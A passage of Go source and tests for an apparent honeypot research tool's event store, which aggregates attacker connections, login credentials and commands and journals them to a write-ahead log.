func (s *Store) Events() int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.events
}

// Record implements core.Sink.
func (s *Store) Record(e core.Event) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.record(e)
}

// RecordBatch implements bus.BatchSink: one lock acquisition per
// delivery batch, which is what lets the store sit directly on the live
// event bus instead of behind the log-file round trip.
func (s *Store) RecordBatch(events []core.Event) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, e := range events {
		s.record(e)
	}
	return nil
}

func (s *Store) record(e core.Event) {
	s.events++

	addr := e.Src.Addr()
	rec, ok := s.ips[addr]
	if !ok {
		rec = &IPRecord{Addr: addr, FirstSeen: e.Time, LastSeen: e.Time, Per: make(map[PerKey]*Activity)}
		if s.geo != nil {
			if g, ok := s.geo.Lookup(addr); ok {
				rec.Country = g.Country
				rec.ASN = g.ASN
				rec.ASName = g.ASName
				rec.ASType = g.ASType
				rec.Institutional = asdb.Institutional(g.ASN)
			} else {
				rec.ASType = asdb.Unknown
			}
		} else {
			rec.ASType = asdb.Unknown
		}
		s.ips[addr] = rec
	}
	if e.Time.Before(rec.FirstSeen) {
		rec.FirstSeen = e.Time
	}
	if e.Time.After(rec.LastSeen) {
		rec.LastSeen = e.Time
	}

	key := PerKey{DBMS: e.Honeypot.DBMS, Level: e.Honeypot.Level, Config: e.Honeypot.Config, Group: e.Honeypot.Group}
	act := rec.Per[key]
	if act == nil {
		act = &Activity{}
		rec.Per[key] = act
	}
	if day := e.Day(s.start); day >= 0 && day < s.days {
		act.ActiveDays |= 1 << uint(day)
	}

	switch e.Kind {
	case core.EventConnect:
		act.Sessions++
		if e.Honeypot.Level == core.Low {
			hour := e.Hour(s.start)
			s.markHour(seriesAll(), hour, addr)
			s.markHour(seriesDBMS(e.Honeypot.DBMS), hour, addr)
		}
	case core.EventLogin:
		act.Logins++
		if e.OK {
			act.LoginOK++
		}
		s.creds[Cred{DBMS: e.Honeypot.DBMS, User: e.User, Pass: e.Pass, Low: e.Honeypot.Level == core.Low}]++
	case core.EventCommand:
		act.CommandsRun++
		if len(act.Actions) < MaxActionsPerActivity {
			act.Actions = append(act.Actions, Action{Name: e.Command, Raw: e.Raw})
		}
	case core.EventClose:
		// Close carries no aggregate beyond day activity.
	}
}

func (s *Store) markHour(series string, hour int, addr netip.Addr) {
	if hour < 0 || hour >= s.days*24 {
		return
	}
	hs := s.hourly[series]
	if hs == nil {
		hs = make([]map[netip.Addr]struct{}, s.days*24)
		s.hourly[series] = hs
	}
	if hs[hour] == nil {
		hs[hour] = make(map[netip.Addr]struct{})
	}
	hs[hour][addr] = struct{}{}
}

// MarkInstitutional overrides the institutional flag for the given
// addresses. The paper identifies institutional scanners from an IP list
// (Griffioen et al.), not from AS ownership; callers holding such a list
// apply it here after ingestion.
func (s *Store) MarkInstitutional(addrs []netip.Addr) {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, a := range addrs {
		if rec, ok := s.ips[a]; ok {
			rec.Institutional = true
		}
	}
}

// IPs returns all IP records sorted by address.
func (s *Store) IPs() []*IPRecord {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]*IPRecord, 0, len(s.ips))
	for _, r := range s.ips {
		out = append(out, r)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Addr.Less(out[j].Addr) })
	return out
}

// IP returns the record for addr, or nil.
func (s *Store) IP(addr netip.Addr) *IPRecord {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.ips[addr]
}

// UniqueIPs reports the number of sources matching filter (nil = all).
func (s *Store) UniqueIPs(filter func(*IPRecord) bool) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	if filter == nil {
		return len(s.ips)
	}
	n := 0
	for _, r := range s.ips {
		if filter(r) {
			n++
		}
	}
	return n
}

// HourlyUnique returns the per-hour unique-client counts for the low tier,
// optionally restricted to one DBMS ("" = all).
func (s *Store) HourlyUnique(dbms string) []int {
	s.mu.Lock()
	defer s.mu.Unlock()
	series := seriesAll()
	if dbms != "" {
		series = seriesDBMS(dbms)
	}
	out := make([]int, s.days*24)
	for h, set := range s.hourly[series] {
		out[h] = len(set)
	}
	return out
}

// CumulativeNew returns, per hour, the cumulative number of distinct
// clients first seen up to that hour on the low tier ("" = all DBMS).
func (s *Store) CumulativeNew(dbms string) []int {
	s.mu.Lock()
	defer s.mu.Unlock()
	series := seriesAll()
	if dbms != "" {
		series = seriesDBMS(dbms)
	}
	out := make([]int, s.days*24)
	seen := make(map[netip.Addr]struct{})
	for h := 0; h < s.days*24; h++ {
		hs := s.hourly[series]
		if hs != nil && hs[h] != nil {
			for a := range hs[h] {
				seen[a] = struct{}{}
			}
		}
		out[h] = len(seen)
	}
	return out
}

// CredCount is a credential with its observation count.
type CredCount struct {
	Cred
	Count int64
}

// Creds returns all aggregated credentials for a DBMS ("" = all) across
// both tiers, merged by (dbms, user, pass) and sorted by descending count
// then user/pass.
func (s *Store) Creds(dbms string) []CredCount {
	return s.creds0(dbms, nil)
}

// CredsTier returns the credentials observed on one tier only (low =
// true for the low-interaction honeypots).
func (s *Store) CredsTier(dbms string, low bool) []CredCount {
	return s.creds0(dbms, &low)
}

func (s *Store) creds0(dbms string, low *bool) []CredCount {
	s.mu.Lock()
	defer s.mu.Unlock()
	merged := make(map[Cred]int64)
	for c, n := range s.creds {
		if dbms != "" && c.DBMS != dbms {
			continue
		}
		if low != nil && c.Low != *low {
			continue
		}
		key := Cred{DBMS: c.DBMS, User: c.User, Pass: c.Pass}
		merged[key] += n
	}
	out := make([]CredCount, 0, len(merged))
	for c, n := range merged {
		out = append(out, CredCount{Cred: c, Count: n})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Count != out[j].Count {
			return out[i].Count > out[j].Count
		}
		if out[i].User != out[j].User {
			return out[i].User < out[j].User
		}
		return out[i].Pass < out[j].Pass
	})
	return out
}

// TotalLogins sums all login attempts for a DBMS ("" = all) across both
// tiers.
func (s *Store) TotalLogins(dbms string) int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	var n int64
	for c, cnt := range s.creds {
		if dbms == "" || c.DBMS == dbms {
			n += cnt
		}
	}
	return n
}

// TotalLoginsTier sums login attempts for one tier.
func (s *Store) TotalLoginsTier(dbms string, low bool) int64 {
	s.mu.Lock()
	defer s.mu.Unlock()
	var n int64
	for c, cnt := range s.creds {
		if (dbms == "" || c.DBMS == dbms) && c.Low == low {
			n += cnt
		}
	}
	return n
}
