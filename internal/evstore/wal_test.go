package evstore

import (
	"fmt"
	"testing"

	"decoydb/internal/core"
	"decoydb/internal/wal"
)

// TestWALRecovery is the store-level durability round trip: ingest into
// a journaled store, reopen the journal into a fresh store, and the
// rebuilt aggregates must match the originals.
func TestWALRecovery(t *testing.T) {
	dir := t.TempDir()
	l, err := wal.Open(wal.Options{Dir: dir, Sync: wal.SyncBatch})
	if err != nil {
		t.Fatal(err)
	}
	s := NewSharded(start, 20, nil, 4)
	if n, err := s.AttachWAL(l, nil); err != nil || n != 0 {
		t.Fatalf("AttachWAL on fresh dir = (%d, %v)", n, err)
	}

	var batch []core.Event
	for i := 0; i < 50; i++ {
		addr := fmt.Sprintf("198.51.100.%d", i%10+1)
		batch = append(batch,
			ev(addr, lowInfo(core.MSSQL), core.EventConnect, i%48),
			ev(addr, lowInfo(core.MSSQL), core.EventLogin, i%48),
		)
	}
	if err := s.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
	// The per-event path must journal too.
	s.Record(ev("203.0.113.9", lowInfo(core.MySQL), core.EventCommand, 3))
	wantEvents := s.Events()
	wantUnique := s.UniqueIPs(Query{})
	wantHourly := s.HourlyUnique(Query{})
	s.Flush()
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	l2, err := wal.Open(wal.Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()
	s2 := NewSharded(start, 20, nil, 4)
	n, err := s2.AttachWAL(l2, nil)
	if err != nil {
		t.Fatalf("AttachWAL replay: %v", err)
	}
	if int64(n) != wantEvents {
		t.Fatalf("replayed %d events, want %d", n, wantEvents)
	}
	if got := s2.Events(); got != wantEvents {
		t.Fatalf("Events after recovery = %d, want %d", got, wantEvents)
	}
	if got := s2.UniqueIPs(Query{}); got != wantUnique {
		t.Fatalf("UniqueIPs after recovery = %d, want %d", got, wantUnique)
	}
	gotHourly := s2.HourlyUnique(Query{})
	for h := range wantHourly {
		if gotHourly[h] != wantHourly[h] {
			t.Fatalf("hourly[%d] = %d, want %d", h, gotHourly[h], wantHourly[h])
		}
	}
	// The recovered store keeps journaling: one more batch, one more
	// sequence number past the recovered tail.
	if err := s2.RecordBatch([]core.Event{ev("203.0.113.10", lowInfo(core.MySQL), core.EventConnect, 0)}); err != nil {
		t.Fatal(err)
	}
	if got, want := s2.Events(), wantEvents+1; got != want {
		t.Fatalf("Events after post-recovery ingest = %d, want %d", got, want)
	}
}

// TestWALTaggedBatches: tags journaled via the TaggedBatchSink path come
// back through AttachWAL's onReplay callback in ingest order — the
// mechanism dbcollect uses to rebuild its per-farm dedup marks.
func TestWALTaggedBatches(t *testing.T) {
	dir := t.TempDir()
	l, err := wal.Open(wal.Options{Dir: dir, Sync: wal.SyncBatch})
	if err != nil {
		t.Fatal(err)
	}
	s := NewSharded(start, 20, nil, 2)
	if _, err := s.AttachWAL(l, nil); err != nil {
		t.Fatal(err)
	}
	var sink core.TaggedBatchSink = s // compile-time interface check
	for i := 0; i < 3; i++ {
		tag := []byte(fmt.Sprintf("farm-a|%d", i+1))
		if err := sink.RecordBatchTagged([]core.Event{ev("198.51.100.7", lowInfo(core.MSSQL), core.EventConnect, i)}, tag); err != nil {
			t.Fatal(err)
		}
	}
	// An untagged batch interleaves.
	if err := s.RecordBatch([]core.Event{ev("198.51.100.8", lowInfo(core.MySQL), core.EventConnect, 0)}); err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	l2, err := wal.Open(wal.Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	defer l2.Close()
	s2 := NewSharded(start, 20, nil, 2)
	var tags []string
	if _, err := s2.AttachWAL(l2, func(tag []byte) {
		tags = append(tags, string(tag))
	}); err != nil {
		t.Fatal(err)
	}
	want := []string{"farm-a|1", "farm-a|2", "farm-a|3", ""}
	if len(tags) != len(want) {
		t.Fatalf("onReplay saw %d batches (%q), want %d", len(tags), tags, len(want))
	}
	for i := range want {
		if tags[i] != want[i] {
			t.Fatalf("tag[%d] = %q, want %q", i, tags[i], want[i])
		}
	}
	if got := s2.Events(); got != 4 {
		t.Fatalf("Events after tagged recovery = %d, want 4", got)
	}
}

func TestAttachWALTwiceRejected(t *testing.T) {
	l, err := wal.Open(wal.Options{Dir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	s := NewSharded(start, 20, nil, 1)
	if _, err := s.AttachWAL(l, nil); err != nil {
		t.Fatal(err)
	}
	if _, err := s.AttachWAL(l, nil); err == nil {
		t.Fatal("second AttachWAL accepted")
	}
}
