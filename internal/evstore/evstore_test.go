package evstore

import (
	"net/netip"
	"testing"
	"testing/quick"
	"time"

	"decoydb/internal/core"
	"decoydb/internal/geoip"
)

var start = core.ExperimentStart

func lowInfo(dbms string) core.Info {
	return core.Info{DBMS: dbms, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
}

func ev(addr string, hp core.Info, kind core.EventKind, hourOffset int) core.Event {
	return core.Event{
		Time:     start.Add(time.Duration(hourOffset) * time.Hour),
		Src:      netip.AddrPortFrom(netip.MustParseAddr(addr), 1000),
		Honeypot: hp,
		Kind:     kind,
	}
}

func TestConnectTracking(t *testing.T) {
	s := New(start, 20, nil)
	s.Record(ev("198.51.100.1", lowInfo(core.MSSQL), core.EventConnect, 0))
	s.Record(ev("198.51.100.1", lowInfo(core.MSSQL), core.EventConnect, 1))
	s.Record(ev("198.51.100.2", lowInfo(core.MySQL), core.EventConnect, 1))
	s.Record(ev("198.51.100.3", lowInfo(core.MSSQL), core.EventConnect, 25))

	if got := s.UniqueIPs(Query{}); got != 3 {
		t.Fatalf("unique IPs = %d", got)
	}
	hourly := s.HourlyUnique(Query{})
	if hourly[0] != 1 || hourly[1] != 2 || hourly[25] != 1 {
		t.Fatalf("hourly = %v", hourly[:26])
	}
	mssql := s.HourlyUnique(Query{DBMS: core.MSSQL})
	if mssql[1] != 1 || mssql[25] != 1 {
		t.Fatalf("mssql hourly = %v", mssql[:26])
	}
	cum := s.CumulativeNew(Query{})
	if cum[0] != 1 || cum[1] != 2 || cum[24] != 2 || cum[25] != 3 || cum[479] != 3 {
		t.Fatalf("cumulative = [0]=%d [1]=%d [25]=%d [479]=%d", cum[0], cum[1], cum[25], cum[479])
	}
}

func TestLoginAggregation(t *testing.T) {
	s := New(start, 20, nil)
	hp := lowInfo(core.MSSQL)
	for i := 0; i < 5; i++ {
		e := ev("198.51.100.9", hp, core.EventLogin, i)
		e.User, e.Pass = "sa", "123"
		s.Record(e)
	}
	e := ev("198.51.100.9", hp, core.EventLogin, 6)
	e.User, e.Pass = "sa", "password"
	s.Record(e)

	creds := s.Creds(Query{DBMS: core.MSSQL})
	if len(creds) != 2 {
		t.Fatalf("creds = %v", creds)
	}
	if creds[0].User != "sa" || creds[0].Pass != "123" || creds[0].Count != 5 {
		t.Fatalf("top cred = %+v", creds[0])
	}
	if s.Logins(Query{DBMS: core.MSSQL}) != 6 {
		t.Fatalf("total logins = %d", s.Logins(Query{DBMS: core.MSSQL}))
	}
	if s.Logins(Query{DBMS: core.MySQL}) != 0 {
		t.Fatal("mysql logins non-zero")
	}
	rec := s.IP(netip.MustParseAddr("198.51.100.9"))
	if rec.TotalLogins() != 6 {
		t.Fatalf("per-IP logins = %d", rec.TotalLogins())
	}
}

func TestActiveDaysBitmask(t *testing.T) {
	s := New(start, 20, nil)
	hp := lowInfo(core.Redis)
	for _, day := range []int{0, 0, 3, 19} {
		s.Record(ev("203.0.113.5", hp, core.EventConnect, day*24+2))
	}
	rec := s.IP(netip.MustParseAddr("203.0.113.5"))
	key := PerKey{DBMS: core.Redis, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	act := rec.Per[key]
	if act.DayCount() != 3 {
		t.Fatalf("day count = %d", act.DayCount())
	}
	if act.ActiveDays != (1 | 1<<3 | 1<<19) {
		t.Fatalf("mask = %b", act.ActiveDays)
	}
	// Events outside the window are ignored for day tracking.
	s.Record(ev("203.0.113.5", hp, core.EventConnect, 21*24))
	if rec.Per[key].DayCount() != 3 {
		t.Fatal("out-of-window day counted")
	}
}

func TestGeoEnrichment(t *testing.T) {
	db := geoip.Default()
	s := New(start, 20, db)
	alloc := db.ByASN(4134)[0] // Chinanet
	addr := netip.AddrFrom4([4]byte{alloc.Prefix.Addr().As4()[0], alloc.Prefix.Addr().As4()[1], 1, 1})
	s.Record(core.Event{Time: start, Src: netip.AddrPortFrom(addr, 9), Honeypot: lowInfo(core.MSSQL), Kind: core.EventConnect})
	rec := s.IP(addr)
	if rec.Country != "CN" || rec.ASN != 4134 || rec.ASName != "Chinanet" {
		t.Fatalf("enrichment = %+v", rec)
	}
	// Institutional flag follows the AS registry.
	censys := db.ByASN(398324)[0]
	caddr := geoipAddr(censys)
	s.Record(core.Event{Time: start, Src: netip.AddrPortFrom(caddr, 9), Honeypot: lowInfo(core.MSSQL), Kind: core.EventConnect})
	if !s.IP(caddr).Institutional {
		t.Fatal("censys IP not institutional")
	}
}

func geoipAddr(a geoip.Allocation) netip.Addr {
	b := a.Prefix.Addr().As4()
	return netip.AddrFrom4([4]byte{b[0], b[1], 0, 1})
}

func TestCommandBounding(t *testing.T) {
	s := New(start, 20, nil)
	hp := core.Info{DBMS: core.Redis, Level: core.Medium, Config: core.ConfigDefault, Group: core.GroupMedium}
	for i := 0; i < MaxActionsPerActivity+100; i++ {
		e := ev("192.0.2.8", hp, core.EventCommand, 0)
		e.Command = "GET"
		s.Record(e)
	}
	rec := s.IP(netip.MustParseAddr("192.0.2.8"))
	act := rec.Per[PerKey{DBMS: core.Redis, Level: core.Medium, Config: core.ConfigDefault, Group: core.GroupMedium}]
	if len(act.Actions) != MaxActionsPerActivity {
		t.Fatalf("actions = %d", len(act.Actions))
	}
	if act.CommandsRun != MaxActionsPerActivity+100 {
		t.Fatalf("commands run = %d", act.CommandsRun)
	}
}

func TestFirstLastSeen(t *testing.T) {
	s := New(start, 20, nil)
	hp := lowInfo(core.MySQL)
	s.Record(ev("192.0.2.1", hp, core.EventConnect, 10))
	s.Record(ev("192.0.2.1", hp, core.EventConnect, 2))
	s.Record(ev("192.0.2.1", hp, core.EventConnect, 30))
	rec := s.IP(netip.MustParseAddr("192.0.2.1"))
	if rec.FirstSeen != start.Add(2*time.Hour) || rec.LastSeen != start.Add(30*time.Hour) {
		t.Fatalf("first/last = %v / %v", rec.FirstSeen, rec.LastSeen)
	}
}

// Property: login aggregation is order-independent — any permutation of
// the same multiset of login events yields identical counts.
func TestAggregationCommutesQuick(t *testing.T) {
	users := []string{"sa", "admin", "root"}
	passes := []string{"1", "123", "pw"}
	f := func(perm []uint8) bool {
		if len(perm) == 0 || len(perm) > 64 {
			return true
		}
		build := func(order []uint8) map[Cred]int64 {
			s := New(start, 20, nil)
			hp := lowInfo(core.MSSQL)
			for _, p := range order {
				e := ev("198.51.100.77", hp, core.EventLogin, 0)
				e.User = users[int(p)%3]
				e.Pass = passes[int(p/3)%3]
				s.Record(e)
			}
			out := map[Cred]int64{}
			for _, c := range s.Creds(Query{}) {
				out[c.Cred] = c.Count
			}
			return out
		}
		fwd := build(perm)
		rev := make([]uint8, len(perm))
		for i, p := range perm {
			rev[len(perm)-1-i] = p
		}
		bwd := build(rev)
		if len(fwd) != len(bwd) {
			return false
		}
		for k, v := range fwd {
			if bwd[k] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestUniqueIPsFilter(t *testing.T) {
	s := New(start, 20, nil)
	s.Record(ev("192.0.2.1", lowInfo(core.MySQL), core.EventConnect, 0))
	e := ev("192.0.2.2", lowInfo(core.MySQL), core.EventLogin, 0)
	e.User = "root"
	s.Record(e)
	n := s.UniqueIPs(Query{Where: func(r *IPRecord) bool { return r.TotalLogins() > 0 }})
	if n != 1 {
		t.Fatalf("filtered = %d", n)
	}
}

func TestAccessors(t *testing.T) {
	s := New(start, 20, nil)
	if !s.Start().Equal(start) || s.Days() != 20 {
		t.Fatal("Start/Days")
	}
	hp := lowInfo(core.MSSQL)
	s.Record(ev("192.0.2.1", hp, core.EventConnect, 0))
	s.Record(ev("192.0.2.2", hp, core.EventConnect, 0))
	if s.Events() != 2 {
		t.Fatalf("Events = %d", s.Events())
	}
	recs := s.IPs()
	if len(recs) != 2 || !recs[0].Addr.Less(recs[1].Addr) {
		t.Fatalf("IPs = %v", recs)
	}
	if applied := s.MarkInstitutional([]netip.Addr{netip.MustParseAddr("192.0.2.1"), netip.MustParseAddr("192.0.2.99")}); applied != 1 {
		t.Fatalf("MarkInstitutional applied = %d, want 1", applied)
	}
	if !s.IP(netip.MustParseAddr("192.0.2.1")).Institutional {
		t.Fatal("institutional not marked")
	}
	if s.IP(netip.MustParseAddr("192.0.2.2")).Institutional {
		t.Fatal("wrong record marked")
	}
	if s.IP(netip.MustParseAddr("192.0.2.99")) != nil {
		t.Fatal("phantom record created")
	}
}

func TestCredTiers(t *testing.T) {
	s := New(start, 20, nil)
	low := lowInfo(core.Postgres)
	med := core.Info{DBMS: core.Postgres, Level: core.Medium, Config: core.ConfigNoLogin, Group: core.GroupMedium}
	mk := func(hp core.Info, user string) core.Event {
		e := ev("192.0.2.9", hp, core.EventLogin, 0)
		e.User, e.Pass = user, "pw"
		return e
	}
	s.Record(mk(low, "postgres"))
	s.Record(mk(med, "postgres"))
	s.Record(mk(med, "admin"))

	if got := s.Logins(Query{DBMS: core.Postgres, Tier: LowTier}); got != 1 {
		t.Fatalf("low logins = %d", got)
	}
	if got := s.Logins(Query{DBMS: core.Postgres, Tier: MediumHighTier}); got != 2 {
		t.Fatalf("med logins = %d", got)
	}
	if got := s.Logins(Query{DBMS: core.Postgres}); got != 3 {
		t.Fatalf("all logins = %d", got)
	}
	lowCreds := s.Creds(Query{DBMS: core.Postgres, Tier: LowTier})
	if len(lowCreds) != 1 || lowCreds[0].Count != 1 {
		t.Fatalf("low creds = %v", lowCreds)
	}
	// AllTiers merges the tiers: postgres/pw appears once with count 2.
	all := s.Creds(Query{DBMS: core.Postgres})
	if len(all) != 2 || all[0].User != "postgres" || all[0].Count != 2 {
		t.Fatalf("merged creds = %v", all)
	}
}

func TestActiveDaysMaskFilter(t *testing.T) {
	s := New(start, 20, nil)
	low := lowInfo(core.MySQL)
	med := core.Info{DBMS: core.Redis, Level: core.Medium, Config: core.ConfigDefault, Group: core.GroupMedium}
	s.Record(ev("192.0.2.50", low, core.EventConnect, 0))
	s.Record(ev("192.0.2.50", med, core.EventConnect, 24*3))
	rec := s.IP(netip.MustParseAddr("192.0.2.50"))
	if got := rec.ActiveDaysMask(Query{}); got != 0b1001 {
		t.Fatalf("all mask = %b", got)
	}
	medOnly := rec.ActiveDaysMask(Query{Tier: MediumHighTier})
	if medOnly != 0b1000 {
		t.Fatalf("med mask = %b", medOnly)
	}
	ranged := rec.ActiveDaysMask(Query{Days: DayRange{From: 0, To: 2}})
	if ranged != 0b0001 {
		t.Fatalf("ranged mask = %b", ranged)
	}
}

// Regression: the day bitmask is 64 bits wide. A 33-day window used to
// overflow the old 32-bit mask (activity on days 32+ silently vanished
// from DayCount and every DayRange query); both 33 and the full 64 days
// must now track day activity exactly.
func TestDayMask33DayWindow(t *testing.T) {
	s := New(start, 33, nil)
	hp := lowInfo(core.Redis)
	for _, day := range []int{0, 31, 32} {
		s.Record(ev("203.0.113.40", hp, core.EventConnect, day*24))
	}
	rec := s.IP(netip.MustParseAddr("203.0.113.40"))
	key := PerKey{DBMS: core.Redis, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	if got := rec.Per[key].DayCount(); got != 3 {
		t.Fatalf("day count = %d, want 3 (day 32 lost past a 32-bit mask)", got)
	}
	if want := uint64(1) | 1<<31 | 1<<32; rec.Per[key].ActiveDays != want {
		t.Fatalf("mask = %b, want %b", rec.Per[key].ActiveDays, want)
	}
	if got := rec.ActiveDaysMask(Query{Days: DayRange{From: 32, To: 33}}); got != 1<<32 {
		t.Fatalf("ranged mask = %b, want bit 32", got)
	}
}

func TestDayMask64DayWindow(t *testing.T) {
	s := New(start, MaxDays, nil)
	hp := lowInfo(core.Redis)
	for _, day := range []int{0, 63} {
		s.Record(ev("203.0.113.41", hp, core.EventConnect, day*24))
	}
	rec := s.IP(netip.MustParseAddr("203.0.113.41"))
	key := PerKey{DBMS: core.Redis, Level: core.Low, Config: core.ConfigDefault, Group: core.GroupMulti}
	if got := rec.Per[key].DayCount(); got != 2 {
		t.Fatalf("day count = %d, want 2", got)
	}
	if rec.Per[key].ActiveDays != 1|1<<63 {
		t.Fatalf("mask = %b", rec.Per[key].ActiveDays)
	}
}

func TestNewRejectsLongWindows(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatalf("%d-day window accepted (day bitmask is %d bits)", MaxDays+1, MaxDays)
		}
	}()
	New(start, MaxDays+1, nil)
}
