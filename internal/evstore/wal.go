package evstore

import (
	"fmt"

	"decoydb/internal/core"
	"decoydb/internal/wal"
)

// This file makes the store durable. The store proper is pure in-memory
// aggregation — the paper's analyses all run over aggregates — which
// means a crash used to cost the whole capture. With a WAL attached,
// every batch is journaled before it is applied, and reopening over the
// same directory replays the journal through the normal ingest path, so
// the aggregates after a crash are byte-for-byte what re-ingesting the
// original event stream would build.
//
// The write protocol is journal-first: a batch the WAL did not accept
// is not applied and the error surfaces to the deliverer (the bus
// re-counts it as a failed delivery). The reverse order would
// acknowledge events that a crash then silently forgets — the exact
// lie a decoy-database capture cannot afford.

// AttachWAL attaches journal l to the store: it first replays every
// batch already in the log through the normal ingest path (rebuilding
// the aggregates of a previous process), then arms journaling so every
// subsequent batch is appended to l before it is applied.
//
// onReplay, when non-nil, observes the provenance tag of every replayed
// batch (nil for untagged batches) — dbcollect uses it to rebuild its
// per-farm dedup marks from the tags journaled by RecordBatchTagged.
// The tag is only valid during the call.
//
// Attach to a freshly constructed store, before any concurrent use:
// events ingested before the attach are not journaled, and replaying
// into a non-empty store double-counts. It returns the number of events
// replayed.
func (s *Store) AttachWAL(l *wal.Log, onReplay func(tag []byte)) (int, error) {
	if s.wal != nil {
		return 0, fmt.Errorf("evstore: store already has a WAL attached")
	}
	replayed := 0
	err := l.Replay(1, func(_ uint64, tag []byte, events []core.Event) error {
		if err := s.RecordBatch(events); err != nil {
			return err
		}
		replayed += len(events)
		if onReplay != nil {
			onReplay(tag)
		}
		return nil
	})
	if err != nil {
		return replayed, fmt.Errorf("evstore: WAL replay: %w", err)
	}
	s.wal = l
	return replayed, nil
}

// WAL returns the attached journal, or nil.
func (s *Store) WAL() *wal.Log { return s.wal }

// RecordBatchTagged implements core.TaggedBatchSink: the batch is
// journaled together with an opaque provenance tag (surfaced again via
// AttachWAL's onReplay after a restart), then applied. With no WAL
// attached the tag has nowhere to live and the batch is simply applied.
func (s *Store) RecordBatchTagged(events []core.Event, tag []byte) error {
	if s.wal != nil {
		if _, err := s.wal.Append(events, tag); err != nil {
			return err
		}
	}
	return s.applyBatch(events)
}

// journalBatch appends the batch to the attached WAL, if any. Called by
// RecordBatch before applying.
func (s *Store) journalBatch(events []core.Event) error {
	if s.wal == nil {
		return nil
	}
	_, err := s.wal.Append(events, nil)
	return err
}

// Flush implements core.Flusher: with a WAL attached it forces the
// journal to stable storage, so quiesce points (shutdown, snapshot
// dumps) leave nothing in the write cache.
func (s *Store) Flush() {
	if s.wal != nil {
		_ = s.wal.Sync()
	}
}
