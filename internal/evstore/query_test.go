package evstore

import (
	"fmt"
	"net/netip"
	"sync"
	"testing"
	"time"

	"decoydb/internal/core"
)

// seedStore builds a store with a deterministic mixed workload: logins on
// two DBMSes across both tiers, connects spread over days, and enough
// distinct sources to populate every shard of a multi-shard store.
func seedStore(t *testing.T, shards int) *Store {
	t.Helper()
	s := NewSharded(start, 20, nil, shards)
	med := core.Info{DBMS: core.Postgres, Level: core.Medium, Config: core.ConfigNoLogin, Group: core.GroupMedium}
	for i := 0; i < 64; i++ {
		addr := fmt.Sprintf("198.51.%d.%d", i/200, 1+i%200)
		day := i % 20
		s.Record(ev(addr, lowInfo(core.MSSQL), core.EventConnect, day*24))
		if i%2 == 0 {
			e := ev(addr, lowInfo(core.MSSQL), core.EventLogin, day*24)
			e.User, e.Pass = "sa", fmt.Sprintf("pw%d", i%5)
			s.Record(e)
		}
		if i%3 == 0 {
			e := ev(addr, med, core.EventLogin, day*24+1)
			e.User, e.Pass = "postgres", "pw0"
			s.Record(e)
		}
		if i%4 == 0 {
			s.Record(ev(addr, lowInfo(core.MySQL), core.EventConnect, day*24+2))
		}
	}
	return s
}

// TestQueryEquivalence pins the Query API to the semantics of the old
// per-dimension method family: Creds(Query{DBMS}) ≡ Creds(dbms),
// Creds(Query{DBMS, Tier}) ≡ CredsTier(dbms, low), Logins(Query{DBMS})
// ≡ TotalLogins(dbms), and so on — computed here against a brute-force
// reference over the same events.
func TestQueryEquivalence(t *testing.T) {
	s := seedStore(t, 4)

	cases := []struct {
		name string
		q    Query
	}{
		{"all", Query{}},
		{"dbms", Query{DBMS: core.MSSQL}},                          // old Creds/TotalLogins(dbms)
		{"low-tier", Query{Tier: LowTier}},                         // old CredsTier("", true)
		{"mh-tier", Query{Tier: MediumHighTier}},                   // old CredsTier("", false)
		{"dbms+low", Query{DBMS: core.MSSQL, Tier: LowTier}},       // old CredsTier(dbms, true)
		{"dbms+mh", Query{DBMS: core.Postgres, Tier: MediumHighTier}},
		{"absent-dbms", Query{DBMS: core.Redis}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			// Reference: recompute from the raw per-shard credential maps.
			var wantLogins int64
			wantCreds := map[Cred]int64{}
			for _, sh := range s.shards {
				for cr, n := range sh.creds {
					if c.q.DBMS != "" && cr.DBMS != c.q.DBMS {
						continue
					}
					if !c.q.Tier.matchLow(cr.Low) {
						continue
					}
					wantLogins += n
					wantCreds[Cred{DBMS: cr.DBMS, User: cr.User, Pass: cr.Pass}] += n
				}
			}
			if got := s.Logins(c.q); got != wantLogins {
				t.Fatalf("Logins = %d, want %d", got, wantLogins)
			}
			got := s.Creds(c.q)
			if len(got) != len(wantCreds) {
				t.Fatalf("Creds len = %d, want %d", len(got), len(wantCreds))
			}
			var prev int64 = 1<<63 - 1
			for _, cc := range got {
				if wantCreds[cc.Cred] != cc.Count {
					t.Fatalf("cred %+v count = %d, want %d", cc.Cred, cc.Count, wantCreds[cc.Cred])
				}
				if cc.Count > prev {
					t.Fatal("creds not sorted by descending count")
				}
				prev = cc.Count
			}
		})
	}
}

// TestQueryShardInvariance: every query result must be independent of the
// shard count — 1 shard (the old single-mutex layout) and N shards must
// agree exactly.
func TestQueryShardInvariance(t *testing.T) {
	one := seedStore(t, 1)
	for _, shards := range []int{2, 4, 8, 13} {
		many := seedStore(t, shards)
		queries := []Query{
			{},
			{DBMS: core.MSSQL},
			{Tier: LowTier},
			{DBMS: core.MSSQL, Tier: LowTier},
			{Days: DayRange{From: 3, To: 9}},
			{DBMS: core.MySQL, Days: DayRange{From: 0, To: 5}},
		}
		for _, q := range queries {
			if a, b := one.Logins(q), many.Logins(q); a != b {
				t.Fatalf("shards=%d %+v: Logins %d != %d", shards, q, b, a)
			}
			if a, b := one.UniqueIPs(q), many.UniqueIPs(q); a != b {
